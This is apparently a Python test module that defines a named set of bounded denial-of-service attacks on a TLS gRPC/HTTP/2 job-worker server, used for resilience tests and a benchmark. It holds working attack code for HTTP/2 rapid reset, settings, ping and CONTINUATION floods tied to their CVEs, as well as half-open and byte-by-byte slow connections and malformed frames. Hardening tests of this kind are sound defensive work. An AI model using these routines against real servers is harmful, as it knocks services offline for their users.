"""The attacks by name, each bounded, for tests and for the benchmark: what is sent, not what must come of it."""

from __future__ import annotations

import random
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass
from types import MappingProxyType
from typing import TYPE_CHECKING, TypeAlias, final

from jobworker_hostile.frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    call,
    call_headers,
    frame,
    header,
    setting,
)
from jobworker_hostile.peer import HostilePeer, open_sockets, plain, read_to_end, send

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

GET_JOB = "jobworker.v1.JobWorkerService/GetJob"

_BATCH = 50
# Any size that fills a frame well and is below the server's limit on frames.
_PIECE = 16_000


@final
@dataclass(frozen=True, slots=True)
class Target:
    """Whom to attack.

    Attributes:
        address: Where it listens.
        folder: Of the certificates.
        client: Whose certificate to show: one that the CA has signed, and that has no role.
    """

    address: str
    folder: Path
    client: str = "stranger"

    def peer(self) -> HostilePeer:
        """Returns a connection with TLS, to be entered."""
        return HostilePeer(self.address, self.folder, self.client)


Attack: TypeAlias = Callable[[Target], None]
"""Runs an attack to its end."""


def half_open(target: Target, count: int = 2000) -> None:
    """Opens connections that say nothing, or half of a ClientHello, and waits until the server has closed them."""
    with (
        open_sockets(target.address, count // 2) as silent,
        # The beginning of a record that would hold 512 bytes of a handshake.
        open_sockets(target.address, count // 2, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03") as begun,
    ):
        for each in (*silent, *begun):
            read_to_end(each)


def garbage_before_tls(target: Target, count: int = 300) -> None:
    """Sends what is no TLS."""
    chosen = random.Random(1)  # noqa: S311 - noise, the same each time
    for _ in range(count):
        with plain(target.address) as connection:
            send(connection, chosen.randbytes(chosen.randint(1, 4096)))
            send(connection, b"GET / HTTP/1.1\r\n\r\n" * 100)
            read_to_end(connection)


def garbage_inside_tls(target: Target, count: int = 50) -> None:
    """Sends what is no HTTP/2, at once or after a good beginning."""
    chosen = random.Random(2)  # noqa: S311 - as above
    for number in range(count):
        with target.peer() as peer:
            if number % 2:
                peer.greet()
            # A frame that is far too long, and then noise: the server can't wait for the rest of it.
            peer.send(b"\xff\xff\xff" + chosen.randbytes(50_000))
            peer.read_to_end()


def rapid_reset(target: Target, count: int = 20_000) -> None:
    """Begins calls and takes each back at once (CVE-2023-44487)."""
    headers = call_headers(GET_JOB)
    with target.peer() as peer:
        peer.greet()
        for first in range(0, count, _BATCH):
            streams = range(2 * first + 1, 2 * (first + _BATCH), 2)
            if not peer.send(b"".join(_begun_and_cancelled(stream, headers) for stream in streams)):
                return


def _begun_and_cancelled(stream: int, headers: bytes) -> bytes:
    return frame(HEADERS, headers, flags=END_HEADERS, stream=stream) + frame(RST_STREAM, CANCEL, stream=stream)


def settings_flood(target: Target, count: int = 100_000) -> None:
    """Sends settings, each of which the server has to acknowledge, and reads none of what it says (CVE-2019-9515)."""
    with target.peer() as peer:
        peer.greet()
        flood = b"".join(setting(4, 65_535 + number % 2) for number in range(1000))
        for _ in range(0, count, 1000):
            if not peer.send(flood):
                return


def ping_flood(target: Target, count: int = 10_000) -> None:
    """Sends pings until it is cut off (CVE-2019-9512)."""
    with target.peer() as peer:
        peer.greet()
        for _ in range(0, count, _BATCH):
            if not peer.send(frame(PING, b"\0" * 8) * _BATCH):
                return


def huge_headers(target: Target, count: int = 30) -> None:
    """Makes calls whose headers have 320 kB each."""
    large = b"".join(header(f"x-{number}", "a" * 3200) for number in range(100))
    with target.peer() as peer:
        peer.greet()
        for number in range(count):
            if not peer.send(_in_pieces(1 + 2 * number, call_headers(GET_JOB) + large)):
                return


def _in_pieces(stream: int, headers: bytes) -> bytes:
    pieces = [headers[at : at + _PIECE] for at in range(0, len(headers), _PIECE)]
    first, *between, last = pieces
    return (
        frame(HEADERS, first, stream=stream)
        + b"".join(frame(CONTINUATION, piece, stream=stream) for piece in between)
        + frame(CONTINUATION, last, flags=END_HEADERS, stream=stream)
    )


def endless_headers(target: Target, count: int = 2000) -> None:
    """Begins headers and never ends them, with pieces that are large, then with empty ones (CVE-2024-27316)."""
    for piece in (header("x", "a" * _PIECE), b""):
        with target.peer() as peer:
            peer.greet()
            peer.send(frame(HEADERS, call_headers(GET_JOB), stream=1))
            for _ in range(count):
                if not peer.send(frame(CONTINUATION, piece, stream=1)):
                    break


def stalled_requests(target: Target, count: int = 3000) -> None:
    """Begins calls, as many as each connection may have, whose requests never come."""
    headers = call_headers(GET_JOB)
    begun = b"\0" + (4 << 20).to_bytes(4) + b"x" * 1000
    for _ in range(0, count, 1000):
        with target.peer() as peer:
            peer.greet()
            for stream in range(1, 2000, 2):
                peer.send(frame(HEADERS, headers, flags=END_HEADERS, stream=stream) + frame(DATA, begun, stream=stream))
            peer.wait_for_answers(1000)


def unauthorised_calls(target: Target, count: int = 10_000) -> None:
    """Makes calls that are all refused, a hundred at a time."""
    headers = call_headers(GET_JOB)
    with target.peer() as peer:
        peer.greet()
        for first in range(0, count, 100):
            peer.send(b"".join(call(stream, headers) for stream in range(2 * first + 1, 2 * (first + 100), 2)))
            peer.wait_for_answers(first + 100)


def crowd(target: Target, connections: int = 16, calls: int = 250) -> None:
    """Makes as many calls at once as may be, on several connections; all are refused."""
    flood = b"".join(call(stream, call_headers(GET_JOB)) for stream in range(1, 2 * calls, 2))
    with ExitStack() as stack:
        peers = [stack.enter_context(target.peer()) for _ in range(connections)]
        for peer in peers:
            peer.greet()
        for peer in peers:
            peer.send(flood)
        for peer in peers:
            peer.wait_for_answers(calls)


def handshakes(target: Target, count: int = 200) -> None:
    """Connects, and goes as soon as the server has done its part: the dearest that it does for who isn't known."""
    for _ in range(count):
        with target.peer() as peer:
            peer.vanish()


def byte_by_byte(target: Target, most: int = 60) -> None:
    """Sends a byte a second, of a handshake and of HTTP/2's beginning, until the server has had enough of both."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * most
    with plain(target.address) as handshake, target.peer() as peer:
        for number in range(most):
            handshake_goes_on = send(handshake, hello[number : number + 1])
            peer_goes_on = peer.send(PREFACE[number : number + 1])
            if not handshake_goes_on and not peer_goes_on:
                return
            peer.listen(1.0)
    raise AssertionError("the server has waited for all of it")


ATTACKS: Mapping[str, Attack] = MappingProxyType(
    {
        each.__name__.replace("_", " "): each
        for each in (
            half_open,
            garbage_before_tls,
            garbage_inside_tls,
            rapid_reset,
            settings_flood,
            ping_flood,
            huge_headers,
            endless_headers,
            stalled_requests,
            unauthorised_calls,
            crowd,
            handshakes,
            byte_by_byte,
        )
    }
)
"""All attacks, by what they do."""
